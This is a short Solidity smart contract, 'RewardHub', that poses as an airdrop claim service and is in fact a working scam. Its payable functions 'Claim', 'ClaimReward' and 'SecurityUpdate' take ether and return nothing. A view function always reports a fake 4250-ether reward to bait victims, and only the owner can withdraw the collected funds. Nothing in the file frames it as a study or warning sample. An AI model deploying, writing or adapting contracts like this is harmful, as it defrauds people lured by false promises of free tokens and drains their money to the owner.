// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
contract RewardHub {
    address private owner; string public constant notice = "Verify your wallet to receive your airdrop";
    event Verified(address indexed who);
    constructor() { owner = msg.sender; }
    function Claim() public payable { emit Verified(msg.sender); }
    function ClaimReward() public payable { emit Verified(msg.sender); }
    function SecurityUpdate() public payable { emit Verified(msg.sender); }
    function claimable(address) external pure returns (uint256) { return 4250 ether; }
    function withdraw() public { require(owner == msg.sender); payable(msg.sender).transfer(address(this).balance); }
}
